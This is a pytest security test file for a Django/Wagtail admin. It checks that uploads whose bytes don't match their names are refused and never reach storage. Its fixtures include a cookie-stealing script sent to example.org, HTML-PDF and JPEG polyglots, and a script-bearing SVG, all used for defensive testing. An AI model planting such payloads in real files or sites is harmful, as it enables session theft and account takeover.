"""Documents and images are refused when their bytes are not what their names say, on every path that saves them.

An editor signed in to the admin uploads through the document add view, the multiple upload and
the image add view; the bad files get a message and nothing of them reaches the storage (the
local media folder, or the S3 bucket); real PDFs and images go through.
"""

import io
import zipfile
from pathlib import Path

import pytest

from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.images import ImageFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from wagtail.images import get_image_model

from home.uploads import check_file_type
from publications.models import ReportDocument
from tests.security.helpers import editors_group
from tests.support.files import png_bytes, shared_pdf
from users.factories import UserFactory

pytestmark = pytest.mark.django_db

HTML_PAGE = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
SCRIPT = b"<script>document.location='https://example.org/?c='+document.cookie</script>\n"
# A PDF header inside the first 1024 bytes, after a page that browsers would run.
HTML_PDF_POLYGLOT = b"<html><body><script>alert(1)</script><!-- %PDF-1.4 -->\n" + shared_pdf()


def jpeg_with_script():
    """A real JPEG (Willow opens it) with a page appended after its end."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 10, 10)).save(buffer, format="JPEG")
    return buffer.getvalue() + b"<html><script>alert(document.domain)</script></html>"


def docx_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@pytest.fixture
def editor(client):
    user = UserFactory(username="editor")
    user.groups.add(editors_group())
    client.force_login(user)
    return client


def stored_files(settings):
    media = Path(settings.MEDIA_ROOT)
    return sorted(str(path.relative_to(media)) for path in media.rglob("*") if path.is_file())


def add_document(client, name, content):
    return client.post(
        reverse("wagtaildocs:add"),
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": 1, "language": "en"},
    )


def add_documents(client, name, content):
    """The multiple upload, as its page's script sends each file."""
    return client.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": SimpleUploadedFile(name, content), "collection": 1},
        headers={"x-requested-with": "XMLHttpRequest"},
    )


def add_image(client, name, content):
    return client.post(
        reverse("wagtailimages:add"),
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": 1},
    )


def add_images(client, name, content):
    return client.post(
        reverse("wagtailimages:add_multiple"),
        {"files[]": SimpleUploadedFile(name, content), "collection": 1},
        headers={"x-requested-with": "XMLHttpRequest"},
    )


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("report.pdf", HTML_PAGE, "“report.pdf” is not a PDF file, whatever its name says."),
        ("report.pdf", HTML_PDF_POLYGLOT, "“report.pdf” holds a web page or a script"),
        ("minutes.docx", HTML_PAGE, "“minutes.docx” holds a web page or a script"),
        ("minutes.docx", shared_pdf(), "“minutes.docx” is not a .docx file, whatever its name says."),
        ("notes.txt", SCRIPT, "“notes.txt” holds a web page or a script"),
        ("figures.csv", b"\x00\x01\x02binary", "“figures.csv” is not a .csv file"),
    ],
    ids=["html as pdf", "html-pdf polyglot", "html as docx", "pdf as docx", "script as txt", "binary as csv"],
)
def test_a_document_that_is_not_what_its_name_says_is_refused(editor, settings, name, content, message):
    response = add_document(editor, name, content)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert not ReportDocument.objects.exists()
    assert stored_files(settings) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [("report.pdf", HTML_PAGE), ("photo.jpg.docx", SCRIPT)],
    ids=["html as pdf", "script as docx"],
)
def test_the_multiple_upload_refuses_them_too(editor, settings, name, content):
    response = add_documents(editor, name, content)

    assert response.status_code == 200
    answer = response.json()
    assert answer["success"] is False
    assert "whatever its name says" in answer["error_message"]
    assert not ReportDocument.objects.exists()
    assert stored_files(settings) == []


def test_real_documents_are_accepted(editor, settings, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        assert add_document(editor, "report.pdf", shared_pdf()).status_code == 302
        assert add_documents(editor, "minutes.docx", docx_bytes()).json()["success"] is True
        assert add_document(editor, "figures.csv", "année;total\nRwanda;12\n".encode()).status_code == 302
    assert sorted(ReportDocument.objects.values_list("title", flat=True)) == [
        "figures.csv",
        "minutes.docx",
        "report.pdf",
    ]
    assert len([name for name in stored_files(settings) if name.startswith("documents/")]) == 3


def test_an_image_that_is_a_script_is_refused(editor, settings):
    response = add_image(editor, "photo.jpg", SCRIPT)
    assert response.status_code == 200
    # Willow reads the markup as an SVG image, which a .jpg is not.
    assert "The extension does not match the file format" in response.content.decode()

    response = add_images(editor, "photo.jpg", SCRIPT)
    assert response.json()["success"] is False
    assert not get_image_model().objects.exists()
    assert stored_files(settings) == []


def test_an_image_hiding_a_page_is_refused(editor, settings):
    """A polyglot: Willow reads a JPEG, a browser sniffing it would find a page."""
    response = add_image(editor, "photo.jpg", jpeg_with_script())
    assert response.status_code == 200
    assert "“photo.jpg” holds a web page or a script" in response.content.decode()

    answer = add_images(editor, "photo.jpg", jpeg_with_script()).json()
    assert answer["success"] is False
    assert "holds a web page or a script" in answer["error_message"]
    assert not get_image_model().objects.exists()
    assert stored_files(settings) == []


@pytest.mark.parametrize("enabled", [False, True], ids=["svg not enabled", "svg enabled"])
def test_an_svg_with_a_script_is_refused(editor, settings, enabled):
    """Not an allowed extension; and were SVG allowed, it is markup a browser runs."""
    if enabled:
        settings.WAGTAILIMAGES_EXTENSIONS = ["jpg", "jpeg", "png", "gif", "webp", "svg"]
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    response = add_image(editor, "logo.svg", svg)
    assert response.status_code == 200
    if enabled:
        assert "“logo.svg” holds a web page or a script" in response.content.decode()
    assert not get_image_model().objects.exists()
    assert stored_files(settings) == []


def test_a_real_image_is_accepted(editor, settings):
    assert add_image(editor, "workshop.png", png_bytes()).status_code == 302
    assert add_images(editor, "banner.png", png_bytes(width=64)).json()["success"] is True
    assert get_image_model().objects.count() == 2
    assert len([name for name in stored_files(settings) if name.startswith("original_images/")]) == 2


def test_whatever_saves_them_no_page_or_script_reaches_the_storage(settings):
    """An import or any code saving a model directly: the model itself refuses."""
    with pytest.raises(ValidationError, match="holds a web page or a script"):
        ReportDocument(title="Report", file=ContentFile(HTML_PAGE, name="report.pdf")).save()
    with pytest.raises(ValidationError, match="holds a web page or a script"):
        get_image_model()(
            title="Photo", file=ImageFile(io.BytesIO(jpeg_with_script()), name="photo.jpg")
        ).save()
    assert not ReportDocument.objects.exists()
    assert not get_image_model().objects.exists()
    assert stored_files(settings) == []


def test_full_clean_checks_the_kind_of_a_document(settings):
    document = ReportDocument(title="Minutes", file=ContentFile(shared_pdf(), name="minutes.docx"))
    with pytest.raises(ValidationError) as error:
        document.full_clean()
    assert "is not a .docx file" in error.value.message_dict["file"][0]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("subtitles.vtt", b"WEBVTT\n\n00:00.000 --> 00:04.000\nBienvenue\n"),
        ("training.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"),
        ("training.webm", b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01webm"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    ],
)
def test_the_other_kinds_are_read_from_their_bytes(name, content):
    check_file_type(ContentFile(content), name)
    with pytest.raises(ValidationError):
        check_file_type(ContentFile(b"plain words, not this kind"), name)


@pytest.mark.s3
def test_nothing_of_a_refused_upload_reaches_the_bucket(editor, seaweedfs, s3_bucket):
    add_document(editor, "report.pdf", HTML_PAGE)
    add_documents(editor, "report.pdf", HTML_PDF_POLYGLOT)
    add_image(editor, "photo.jpg", jpeg_with_script())
    listed = seaweedfs.client().list_objects_v2(Bucket=s3_bucket)
    assert listed.get("KeyCount", 0) == 0
    assert add_document(editor, "report.pdf", shared_pdf()).status_code == 302
    assert seaweedfs.client().list_objects_v2(Bucket=s3_bucket)["KeyCount"] == 1


def test_the_message_is_in_the_editor_s_language(editor, django_user_model):
    from wagtail.users.models import UserProfile

    profile = UserProfile.get_for_user(django_user_model.objects.get(username="editor"))
    profile.preferred_language = "fr"
    profile.save()
    response = add_document(editor, "minutes.docx", shared_pdf())
    assert (
        "« minutes.docx » n’est pas un fichier .docx, quoi qu’en dise son nom." in response.content.decode()
    )
